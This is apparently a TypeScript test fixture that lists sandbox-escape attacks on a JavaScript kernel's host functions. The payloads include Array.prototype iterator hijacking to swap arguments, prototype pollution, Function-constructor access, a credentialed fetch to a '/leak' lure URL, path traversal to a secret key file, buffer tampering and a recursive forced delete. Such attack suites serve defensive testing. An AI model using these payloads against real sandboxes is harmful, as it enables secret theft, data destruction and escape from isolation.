// At the host functions, with what they don't expect. The guest's world looks at arguments before it
// passes them on, in the guest, where an attacker can change them behind its back.
import { claiming, type Attack } from '../attack.ts';

/**
 * `passing(fits, evil, call)`: while `call` runs, the first list that fits is spread as the evil one. So
 * the kernel passes a host function's arguments after the first: how they are spread is the guest's to say.
 */
const passing = `
  function passing(fits, evil, call) {
    const iterate = Array.prototype[Symbol.iterator];
    let isDone = false;
    Array.prototype[Symbol.iterator] = function () {
      const hit = !isDone && fits(this);
      isDone ||= hit;
      return iterate.call(hit ? evil : this);
    };
    try { return call() } finally { Array.prototype[Symbol.iterator] = iterate }
  }`;

export const hostFunctionAttacks: readonly Attack[] = [
  {
    name: "a part of a file that begins before it, where another's content is",
    cells: `${passing}
      fs.writeFileSync('armed', 'x'.repeat(200));
      const bytes = Buffer.alloc(200);
      const handle = fs.openSync('armed', 'r');
      passing((list) => list.length === 2 && list[1] === 200, [-100, 200], () => fs.readSync(handle, bytes));
      bytes.toString()`,
    without: 'host-functions',
    harm: 'secret',
  },
  {
    name: 'more random bytes than there is memory',
    cells: `Math.min = () => 4e8; require('crypto').randomBytes(8).length`,
    without: 'host-functions',
    harm: 'memory',
  },
  {
    name: 'a query that names the prototype of all objects',
    cells: `new URLSearchParams('__proto__[owned' + Math.random().toString(36).slice(2) + ']=owned').toString()`,
    without: 'host-functions',
    harm: 'realm',
  },
  {
    name: 'a tool by the name of what makes functions',
    cells: `
      Array.prototype.includes = () => true;
      tools['constructor.constructor']('globalThis[Math.random()] = 1').catch(() => {}); 0`,
    without: 'host-functions',
    harm: 'realm',
  },
  {
    name: 'a request that is no list',
    cells: `
      Array.prototype.toJSON = () => ({ 0: lures.http + '/leak', 1: 'GET', 2: 'follow', length: 3, credentials: 'include' });
      await fetch(lures.allowed)`,
    without: 'host-functions',
    harm: 'network',
  },
  {
    name: 'a path that is read in another way than it is judged',
    cells: `fs.readFileSync('/workspace/locked/../secret/key.txt', 'utf8')`,
    without: 'host-functions',
    harm: 'secret',
  },
  {
    name: "bytes that are the host's own",
    cells: `fs.readFileSync('readme.txt').fill('!'); 0`,
    after: `fs.readFileSync('readme.txt').toString().startsWith('!') ? ${claiming} : 'nothing'`,
    without: 'host-objects',
    harm: 'claimed',
  },
  {
    name: 'no path at all',
    cells: `fs.rmSync('', { recursive: true, force: true }); 0`,
    without: 'host-functions',
    harm: 'files',
  },
];
